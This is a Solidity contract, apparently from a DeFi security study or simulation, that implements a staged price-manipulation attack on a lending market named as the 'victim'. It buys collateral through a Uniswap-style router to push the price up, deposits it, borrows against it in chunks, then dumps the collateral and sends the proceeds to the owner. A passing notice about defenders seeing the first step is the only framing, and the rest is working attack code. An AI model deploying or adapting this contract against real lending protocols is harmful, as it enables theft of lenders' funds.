// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {Trader} from "./Trader.sol";
import {IUniswapV2Router} from "./IUniswapV2.sol";
import {LendingMarket} from "./LendingMarket.sol";

/// @title The same attack with own capital, over several transactions
/// @notice Each step can lie in a block of its own, so a defender who sees the first can save what later ones want.
contract StagedAttacker is Trader {
    using SafeERC20 for IERC20;

    LendingMarket public immutable victim;
    IUniswapV2Router public immutable router;
    IERC20 public immutable asset;
    IERC20 public immutable collateral;

    constructor(LendingMarket victim_, IUniswapV2Router router_) {
        victim = victim_;
        router = router_;
        asset = victim_.asset();
        collateral = victim_.collateral();
    }

    /// @notice Buys collateral with the owner's capital and leaves part of it in the victim.
    function pump(uint256 capital, uint256 collateralAmount) external onlyOwner {
        asset.safeTransferFrom(msg.sender, address(this), capital);
        _swap(router, asset, collateral, capital);
        collateral.forceApprove(address(victim), collateralAmount);
        victim.depositCollateral(collateralAmount);
    }

    function borrowChunk(uint256 amount) external onlyOwner {
        victim.borrow(amount);
    }

    /// @notice Sells the rest of the collateral and takes everything home.
    function dump() external onlyOwner {
        _swap(router, collateral, asset, _held(collateral));
        _sendHome(asset);
    }
}
